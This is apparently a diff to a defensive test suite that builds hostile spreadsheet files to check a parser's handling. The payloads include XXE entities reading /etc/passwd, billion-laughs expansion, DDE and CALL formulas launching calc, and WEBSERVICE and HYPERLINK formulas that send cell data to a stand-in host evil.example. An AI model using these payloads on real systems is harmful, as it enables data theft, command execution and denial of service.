@@ -27,7 +27,7 @@ _DOCTYPES = {
     "an entity": '<!DOCTYPE x [<!ENTITY a "b">]>',
     "a billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "哈">{_LAUGHS}]>',
     "a file": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
-    "an address": '<!DOCTYPE x SYSTEM "http://192.0.2.1/evil.dtd">',
+    "an address": '<!DOCTYPE x SYSTEM "http://evil.example/evil.dtd">',
     "a parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///dev/zero"> %p;]>',
 }
 _OTHERS = ("[Content_Types].xml", "xl/styles.xml", "xl/drawings/drawing1.xml", "docProps/core.xml", "xl/comments1.xml")
@@ -52,7 +52,7 @@ def _entities() -> Iterator[Hostile]:
     yield hostile(
         "an instruction to fetch a style",
         "a.xlsx",
-        whole(sheet=sheet(head='<?xml-stylesheet href="http://192.0.2.1/"?>')),
+        whole(sheet=sheet(head='<?xml-stylesheet href="http://evil.example/"?>')),
         READ,
     )
     include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
@@ -78,15 +78,15 @@ def _outward() -> Iterator[Hostile]:
         "subDocument",
     ):
         for target in (
-            "http://192.0.2.1/x",
+            "http://evil.example/x",
             "file://///server/share/x",
-            "mhtml:http://192.0.2.1!x:http://192.0.2.1/",
+            "mhtml:http://evil.example!x:http://evil.example/",
         ):
             more = f'<Relationship Id="rId5" Type="{kind}{what}" Target="{target}" TargetMode="External"/>'
             yield hostile(f"{what} at {target}", "a.xlsx", whole(rels=relations(more)), READ)
     dde = f'<externalLink xmlns="{SPREADSHEET}"><ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems/></ddeLink></externalLink>'
     yield hostile("a link that starts a program", "a.xlsx", whole() | {"xl/externalLinks/externalLink1.xml": dde}, READ)
-    for formula in ("cmd|'/C calc'!A0", 'HYPERLINK("http://192.0.2.1/?"&amp;D2)', 'WEBSERVICE("http://192.0.2.1")', "[1]x!A1",
+    for formula in ("cmd|'/C calc'!A0", 'HYPERLINK("http://evil.example/?"&amp;D2)', 'WEBSERVICE("http://evil.example")', "[1]x!A1",
                     "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)", "A1+" * 4000 + "1"):  # fmt: skip
         extra = f'<row r="2"><c r="H2" t="str"><f>{formula}</f><v>无</v></c>'
         yield hostile(
@@ -194,14 +194,14 @@ def _floods() -> Iterator[Hostile]:
         lambda: whole(sheet=sheet(CHILDREN + "".join(f'<row r="{n}" hidden="1"/>' for n in range(5, 1_000_005)))),
         READ,
     )
-    error = lambda n: f'<row r="{n}">' + "".join(f'<c r="{c}{n}" t="e"><v>#N/A</v></c>' for c in "ABCDEFG") + "</row>"  # noqa: E731
+    error = lambda n: f'<row r="{n}">' + "".join(f'<c r="{c}{n}" t="e"><v>#N/A</v></c>' for c in "ABCDEFG") + "</row>"
     yield hostile(
         "a million errors",
         "a.xlsx",
         lambda: whole(sheet=sheet(CHILDREN + "".join(map(error, range(5, 150_000))))),
         "too_much",
     )
-    never = lambda n: f'<row r="{n}">' + "".join(f'<c r="{c}{n}"><f>1</f></c>' for c in "ABCDEFG") + "</row>"  # noqa: E731
+    never = lambda n: f'<row r="{n}">' + "".join(f'<c r="{c}{n}"><f>1</f></c>' for c in "ABCDEFG") + "</row>"
     yield hostile(
         "a million formulas without a value",
         "a.xlsx",
@@ -253,7 +253,7 @@ def _floods() -> Iterator[Hostile]:
     yield hostile(
         "200,000 number formats", "a.xlsx", lambda: _shared([]) | {"xl/styles.xml": fonts % (formats, "")}, READ
     )
-    wide = lambda n: "".join(f'<c r="{_letters(c)}{n}"><v>1</v></c>' for c in range(7, 16_384))  # noqa: E731
+    wide = lambda n: "".join(f'<c r="{_letters(c)}{n}"><v>1</v></c>' for c in range(7, 16_384))
     yield hostile(
         "16,384 columns",
         "a.xlsx",
